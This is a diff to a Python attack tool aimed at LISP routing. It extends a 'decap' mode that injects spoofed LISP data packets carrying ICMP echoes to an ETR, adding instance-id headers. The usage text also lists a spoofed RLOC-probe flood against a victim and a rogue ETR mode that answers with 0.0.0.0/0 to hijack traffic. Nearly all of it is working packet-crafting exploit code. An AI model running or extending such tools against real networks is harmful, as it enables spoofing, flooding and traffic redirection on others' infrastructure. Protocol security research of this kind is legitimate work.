@@ -9,8 +9,10 @@
                                    sources in 198.19.0.0/16, ITR-RLOC VICTIM
   probe-flood ETR EID VICTIM N     N RLOC-probes for EID/24 to ETR:4342,
                                    spoofed from VICTIM (its ITR-RLOC)
-  decap ETR INNER_SRC INNER_DST    one LISP data packet (instance-id 0) to
-                                   ETR:4341 carrying an ICMP echo request
+  decap ETR INNER_SRC INNER_DST [IID]
+                                   one LISP data packet (no instance-id, or
+                                   IID with the I bit) to ETR:4341 carrying
+                                   an ICMP echo request
   evil-etr ADDR OWN VICTIM         an ETR whose site key the attacker holds:
                                    answers the first ECM forwarded to it
                                    with 0.0.0.0/0, VICTIM and OWN, all to
@@ -122,10 +124,12 @@ def probe_flood(args):
 
 
 def decap(args):
-    etr, isrc, idst = args
+    etr, isrc, idst = args[:3]
+    iid = int(args[3]) if len(args) > 3 else None
     icmp = struct.pack('!BBHHH', 8, 0, 0, 0x4c49, 1) + b'spoofed-decap'
     icmp = icmp[:2] + struct.pack('!H', csum(icmp)) + icmp[4:]
-    lisp = struct.pack('!II', 0, 0) + ipv4(isrc, idst, 1, icmp)
+    hdr = struct.pack('!II', 0x08000000, iid << 8) if iid is not None else struct.pack('!II', 0, 0)
+    lisp = hdr + ipv4(isrc, idst, 1, icmp)
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.setsockopt(socket.SOL_SOCKET, 11, 1)	# SO_NO_CHECK: UDP checksum 0, as ITRs send
     s.sendto(lisp, (etr, 4341))
